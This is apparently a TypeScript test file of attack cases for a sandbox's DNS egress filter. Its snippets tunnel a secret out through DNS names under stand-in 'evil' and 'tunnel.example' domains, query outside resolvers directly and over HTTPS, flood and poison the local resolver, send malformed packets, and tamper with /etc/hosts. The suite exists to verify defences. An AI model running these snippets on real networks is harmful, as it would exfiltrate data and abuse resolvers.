/** Threat: names carry secrets out, or answers lead connections astray. */
import { groupOf, node, sh } from "../attack.ts";
import type { Case } from "../model.ts";
import { all, neverPrints, noBinary, nothingAnywhere, prints, recorded } from "../witness.ts";

const attack = groupOf("dns", ["egress"]);
const tunnel = { promise: "names-stay-inside" };
/** What look-ups of a moment leave; after it, as many lines a second as the gateway writes of refusals. */
const FLOOD_LINES_MAX = 600;
const REFUSALS_PER_SECOND_MAX = 100;

/** A question as bytes: name, type, and whatever is glued on. */
const QUESTION = `
const labels = (name) => Buffer.concat([...name.split(".").map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l, "latin1")])), Buffer.from([0])]);
const question = (name, type = 1, { id = 7, flags = 0x0100, cls = 1, more = Buffer.alloc(0), counts = [1, 0, 0, 0] } = {}) => { const head = Buffer.alloc(12); head.writeUInt16BE(id, 0); head.writeUInt16BE(flags, 2); counts.forEach((c, i) => head.writeUInt16BE(c, 4 + 2 * i)); const tail = Buffer.alloc(4); tail.writeUInt16BE(type, 0); tail.writeUInt16BE(cls, 2); return Buffer.concat([head, labels(name), tail, more]); };
const answersOf = (hex) => /^[0-9a-f]+$/.test(hex) ? parseInt(hex.slice(12, 16), 16) : 0;
const rcode = (hex) => /^[0-9a-f]+$/.test(hex) ? parseInt(hex.slice(6, 8), 16) & 15 : hex;
`;
const dns = (text: string) => node(`${QUESTION}\n${text}`);

/** What the host's own resolver would see; our gateway's resolver is handed in by the suite and hears nothing here. */
const noData = (id: string, title: string, type: number): Case =>
  attack(id, title, {
    ...tunnel,
    program: dns(
      `for (const name of [host("api"), "c2VjcmV0." + host("evil")]) { const a = await dnsRaw(question(name, ${type})); say("answers " + answersOf(a) + " rcode " + rcode(a)); }`,
    ),
    expect: all(nothingAnywhere, neverPrints(/answers [1-9]/)),
  });

export const dns_: Case[] = [
  attack("dns-tunnel-labels", "carries a secret out in the labels of names under an attacker's domain", {
    ...tunnel,
    needs: ["journal"],
    program: dns(
      `for (let i = 0; i < 5; i++) say((await dnsRaw(question("c2VjcmV0LWxvbmctZW5vdWdoLXRvLWJlLWEtcmVhbC1vbmUtaGVyZQ" + i + "." + "x".repeat(60) + ".tunnel.example"))).slice(0, 60))`,
    ),
    expect: all(nothingAnywhere, recorded({ decision: "deny", kind: "dns" })),
  }),
  attack("dns-tunnel-allowed", "carries a secret out below an allowed host's name", {
    ...tunnel,
    program: dns(`for (let i = 0; i < 5; i++) say(rcode(await dnsRaw(question("secret" + i + "." + host("api")))))`),
    expect: nothingAnywhere,
  }),
  noData("dns-txt", "asks for TXT, in which answers carry most", 16),
  noData("dns-null", "asks for NULL records", 10),
  noData("dns-any", "asks for everything at once", 255),
  noData("dns-mx", "asks for mail servers", 15),
  noData("dns-srv", "asks for services", 33),
  noData("dns-https", "asks for HTTPS records, whose keys would hide the server's name", 65),
  noData("dns-aaaa", "asks for an IPv6 address, for which there is no route", 28),
  noData("dns-cname", "asks for another name", 5),
  noData("dns-axfr", "asks for the whole zone", 252),
  noData("dns-private-type", "asks for a type of its own", 65_280),
  attack("dns-chaos", "asks in another class for the resolver's version", {
    ...tunnel,
    program: dns(`const a = await dnsRaw(question("version.bind", 16, { cls: 3 })); say("answers " + answersOf(a))`),
    expect: neverPrints(/answers [1-9]/),
  }),
  attack("dns-edns", "sends data in EDNS options and an unknown version", {
    ...tunnel,
    program: dns(
      `const opt = Buffer.concat([Buffer.from("00002904d000050000", "hex"), Buffer.from([0, 40, 0xff, 0xf0, 0, 36]), Buffer.from("the-secret-in-an-option-of-the-packet")]); say("answers " + answersOf(await dnsRaw(question(host("evil"), 16, { more: opt, counts: [1, 0, 0, 1] }))))`,
    ),
    expect: all(nothingAnywhere, neverPrints(/answers [1-9]/)),
  }),
  attack("dns-other-resolver", "asks another resolver", {
    ...tunnel,
    program: dns(
      `for (const address of ["8.8.8.8", "1.1.1.1", process.env.OWN_ADDRESS, "10.0.2.3", "127.0.0.53"]) say(await dnsRaw(question("evil.example"), { address, ms: 300 })); say(await dnsRaw(question("evil.example"), { address: process.env.OWN_ADDRESS, port: Number(process.env.UDP_PORT), ms: 300 }))`,
    ),
    expect: all(nothingAnywhere, neverPrints(/^[0-9a-f]{12,}$/m)),
  }),
  attack("dns-other-resolver-tcp", "asks another resolver over TCP and TLS", {
    ...tunnel,
    program: node(
      `for (const [a, p] of [["8.8.8.8", 53], ["1.1.1.1", 853], ["9.9.9.9", 853], ["127.0.0.1", 53]]) say(a + " " + await rawTcp(a, p, Buffer.from("001d0001010000010000000000000465766c076578616d706c650000010001", "hex"), 400))`,
    ),
    expect: all(nothingAnywhere, noBinary),
  }),
  attack("dns-over-https", "asks resolvers over HTTPS by their names and addresses", {
    ...tunnel,
    needs: ["journal"],
    program: node(
      `for (const h of ["dns.google", "cloudflare-dns.com", "1.1.1.1", "dns.quad9.net"]) { const r = await ask("https://" + h + "/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB", { rejectUnauthorized: false, timeout: 1500 }); say(h + " " + (r.failed ?? r.status)); }`,
    ),
    expect: all(neverPrints(/ 200$/m), recorded({ decision: "deny", host: "dns.google" })),
  }),
  attack("dns-case", "spells a name in changing case to smuggle bits", {
    ...tunnel,
    program: dns(
      `const a = await dnsRaw(question("ApI.cReEl.ExAmPlE")), b = await dnsRaw(question(host("api"))); say(a.slice(-8) === b.slice(-8) ? "SAME" : a + " " + b)`,
    ),
    expect: prints(/SAME/),
  }),
  attack("dns-flood", "asks for ten thousand names in a second", {
    ...tunnel,
    needs: ["journal"],
    program: dns(
      `const s = dgram.createSocket("udp4"); let got = 0; s.on("message", () => got++); for (let i = 0; i < 10000; i++) { s.send(question("n" + i + ".flood.example", 1, { id: i & 0xffff }), 53, "127.0.0.1"); if (i % 500 === 0) await sleep(1); } await sleep(300); say("answered " + got); process.exit(0)`,
    ),
    expect: {
      says: "at most a few hundred are answered, and the journal grows by a bounded number of lines, and of lines a second",
      check({ out, records }) {
        // A busy machine is slow to ask as well: what may be written then is as many more seconds' share.
        const times = records.map(({ time }) => Date.parse(time));
        const seconds = times.length === 0 ? 0 : (Math.max(...times) - Math.min(...times)) / 1_000;
        const most = FLOOD_LINES_MAX + REFUSALS_PER_SECOND_MAX * seconds;
        return Number(/answered (\d+)/.exec(out)?.[1] ?? 99_999) <= most && records.length <= most
          ? null
          : `${out.slice(0, 60)}, ${records.length} lines in ${seconds} s`;
      },
    },
  }),
  attack("dns-after-flood", "control: names are answered again when it is over", {
    promise: "honest-work",
    control: true,
    program: dns(
      `const s = dgram.createSocket("udp4"); for (let i = 0; i < 3000; i++) s.send(question("m" + i + ".flood.example", 1, { id: i }), 53, "127.0.0.1"); say(await resolves(host("api"))); process.exit(0)`,
    ),
    expect: prints(/^198\.18\./m),
  }),
  attack(
    "dns-bomb",
    "asks in packets that are dear to read: counts without records, and hundreds of records that point at one another",
    {
      promise: "limits",
      program: dns(
        `const record = Buffer.from("c00c000500010000000000024000", "hex"); record.writeUInt16BE(0xc00c, 12); const dear = [Buffer.from("00070100ffffffffffffffff", "hex"), question(host("api"), 1, { counts: [1, 30, 0, 0], more: Buffer.concat(Array(30).fill(record)) }), question(host("api"), 1, { counts: [1, 250, 0, 0], more: Buffer.concat(Array(250).fill(record)) })]; const s = dgram.createSocket("udp4"); let got = 0; s.on("message", () => got++); for (let i = 0; i < 1800; i++) { s.send(dear[i % 3], 53, "127.0.0.1"); if (i % 100 === 0) await sleep(5); } const r = await recovers("https://" + host("api") + "/v1/bombed"); await sleep(300); say("answered " + got + ", beside it " + r); process.exit(0)`,
      ),
      expect: prints(/^answered 0, beside it 200$/m),
    },
  ),
  attack("dns-malformed", "sends broken packets: loops, cut ones, answers, long labels, many questions", {
    ...tunnel,
    program: dns(
      `const bad = ["", "00", "000701000001000000000000c00c00010001", "0007010000010000000000003f" + "61".repeat(63) + "c00c00010001", "000781800001000100000000" + "0161000001000100", "000701000003000000000000" + "016100000100010162000001000101630000010001", "00070100ffffffffffffffff", "0007010000010000000000004061" + "00".repeat(20), "00072900000100000000000001610000010001"]; for (const b of bad) await dnsRaw(Buffer.from(b, "hex"), { ms: 40 }); for (let i = 0; i < 300; i++) { const b = question(host("api")); for (let k = 0; k < 4; k++) b[(i * 7 + k * 13) % b.length] = (i * 31 + k * 17) & 255; await dnsRaw(b, { ms: 2 }); } say(await resolves(host("api")))`,
    ),
    expect: all(nothingAnywhere, prints(/^198\.18\./m)),
  }),
  attack("dns-poison", "answers its own questions faster than the resolver, from another port", {
    promise: "names-agree",
    program: dns(
      `const forged = Buffer.concat([question(host("evil"), 1, { flags: 0x8180, counts: [1, 1, 0, 0] }), Buffer.from("c00c000100010000003c0004c6120001", "hex")]); const s = dgram.createSocket("udp4"); for (let p = 32768; p < 33768; p++) s.send(forged, p, "127.0.0.1"); const a = await resolves(host("api")); const r = await recovers("https://" + host("api") + "/v1/poison"); say(a + " " + r); process.exit(0)`,
    ),
    expect: all(prints(/^198\.18\.\d+\.\d+ 200$/m)),
  }),
  attack("dns-evict", "asks for so many names that an allowed one loses its address to another", {
    promise: "names-agree",
    program: dns(
      `const before = await lookup(host("api")); const s = dgram.createSocket("udp4"); for (let i = 0; i < 3000; i++) { s.send(question("e" + i + ".evict.example", 1, { id: i }), 53, "127.0.0.1"); if (i % 50 === 0) await sleep(30); } const after = await resolves(host("api")); const r = await recovers("https://" + host("api") + "/v1/evict"); say(before === after ? "KEPT " + r : before + " " + after); process.exit(0)`,
    ),
    expect: prints(/^KEPT 200$/m),
  }),
  attack("dns-rebind-unnamed", "holds the address of a name that no rule names and waits for a policy to name it", {
    promise: "names-agree",
    needs: ["journal"],
    program: node(
      `const a = await lookup("later.creel.example"); say(await rawTls("later.creel.example", "GET / HTTP/1.1\\nHost: later.creel.example\\n\\n", { rejectUnauthorized: false, ms: 500 }))`,
    ),
    expect: all(nothingAnywhere, recorded({ decision: "deny", host: "later.creel.example" })),
  }),
  attack("dns-hosts-file", "names hosts in a file and a variable of its own", {
    promise: "names-agree",
    program: sh(
      `echo "127.0.0.1 api.creel.example" > /tmp/hosts; HOSTALIASES=/tmp/hosts RES_OPTIONS="ndots:9" LOCALDOMAIN=evil.creel.example getent hosts api.creel.example; echo "203.0.113.9 evil" >> /etc/hosts && echo WROTE; true`,
    ),
    expect: neverPrints(/WROTE|^127\.0\.0\.1 /m),
  }),
  attack("dns-local", "asks for localhost, the host's own name and reverse names", {
    ...tunnel,
    program: dns(
      `for (const n of ["localhost", "1.0.0.127.in-addr.arpa", "wpad", "_dns.resolver.arpa", "printer.local"]) { const a = await dnsRaw(question(n, n.endsWith("arpa") ? 12 : 1)); say(n + " answers " + answersOf(a) + " " + a.slice(-8)); }`,
    ),
    expect: neverPrints(/arpa answers [1-9]|7f000001/),
  }),
];
